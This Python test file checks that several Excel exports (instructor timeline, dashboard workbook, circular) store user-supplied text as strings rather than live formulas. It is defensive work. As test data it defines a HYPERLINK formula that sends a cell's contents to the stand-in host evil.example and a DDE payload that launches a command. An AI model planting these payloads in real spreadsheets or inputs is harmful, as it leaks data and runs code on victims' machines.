"""Formula injection (issue 13, item 2): people's text comes back as text in every Excel
export, never as a live formula, through the real stack (dev server, worker, uvicorn)."""

from __future__ import annotations

import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from activities.digest_messages import write_circular_xlsx
from activities.roster_files import read_roster_text
from activities.roster_store import roster_csv
from api.ui.routers.exports import workbook
from domain.digest import StatusLine, build_circular
from domain.lights import Light
from domain.organisation import System
from domain.phases import Phase
from tests.api.conftest import (
    PASSWORD,
    Stack,
    extended_first_deadline,
    start_demo_round,
    token,
    wait_for,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _cells(data: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


async def test_reasons_come_back_as_text_in_the_instructors_timeline(stack: Stack) -> None:
    rid = await start_demo_round(stack, f"formula-{uuid.uuid4().hex[:8]}")
    base = f"/api/v1/rounds/{rid}/organisations/org-c"
    async with httpx.AsyncClient(base_url=stack.base_url, timeout=60) as http:
        secretary, instructor = await token(http, "sec-c"), await token(http, "ins-liu")
        status = (await http.get(f"{base}/status", headers=secretary)).json()
        asked = await http.post(
            f"{base}/extensions",
            json={"new_deadline": extended_first_deadline(status).isoformat(), "reason": HYPERLINK},
            headers=secretary,
        )
        assert asked.status_code == 200, asked.text
        step = next(s for s in status["state"]["phases"][0]["steps"] if s["required"])
        waived = await http.post(
            f"{base}/waivers", json={"step_id": step["step_id"], "reason": DDE}, headers=instructor
        )
        assert waived.status_code == 200, waived.text

        login = await http.post(
            "/ui/login",
            data={"username": "ins-liu", "password": PASSWORD, "next": "/ui/"},
            headers={"Origin": stack.base_url},
        )
        assert login.status_code == 303, login.text

        async def timeline() -> bytes | None:
            got = await http.get(f"/ui/export/orgs/org-c/timeline.xlsx?round={rid}")
            assert got.status_code == 200, got.text
            values = {str(v) for v, _ in _cells(got.content)}
            return got.content if {HYPERLINK, DDE} <= values else None

        data = await wait_for(timeline)
    cells = _cells(data)
    assert (HYPERLINK, "s") in cells and (DDE, "s") in cells
    assert not [c for c in cells if c[1] == "f"]
    # The waived step by its Chinese name, not its id (county staff read this sheet).
    texts = {str(v) for v, _ in cells}
    assert step["name"] in texts and step["step_id"] not in texts


async def test_the_dashboard_workbook_stores_formulas_as_text() -> None:
    data = workbook("t", ["a", "b"], [[HYPERLINK, DDE], ["+1+1", "@SUM(A1)"]])
    cells = _cells(data)
    assert (HYPERLINK, "s") in cells and (DDE, "s") in cells
    assert not [c for c in cells if c[1] == "f"]


async def test_the_circular_stores_names_as_text(tmp_path: Path) -> None:
    now = datetime.now(UTC)
    line = StatusLine(
        org_id="org-x",
        org_name=DDE,
        township=HYPERLINK,
        system=System.RURAL,
        instructor="张指导",
        light=Light.RED,
        overdue=True,
        phase=Phase.MOBILISATION,
        deadline=now - timedelta(days=5),
        working_days_overdue=3,
        top_rung=0,
        closed=False,
    )
    path = tmp_path / "c.xlsx"
    write_circular_xlsx(build_circular("r", [line], now=now, key="k"), path)
    cells = _cells(path.read_bytes())
    assert (DDE, "s") in cells and (HYPERLINK, "s") in cells
    assert not [c for c in cells if c[1] == "f"]


async def test_the_roster_snapshot_keeps_formula_like_names_exactly() -> None:
    # The snapshot is read back by the round, never opened by people: escaping it would
    # hand the workflows "'=1+1" as the organisation's name.
    text = (
        "组织编号,组织名称,组织类型,所属乡镇,所属系统,党员人数,书记,指导员\n"
        "org-x,=1+1,农村,城关镇,县农委,3,@李明,张指导\n"
    )
    roster = read_roster_text(text)
    again = read_roster_text(roster_csv(roster))
    assert again == roster
    assert again.organisations[0].name == "=1+1" and again.organisations[0].secretary == "@李明"
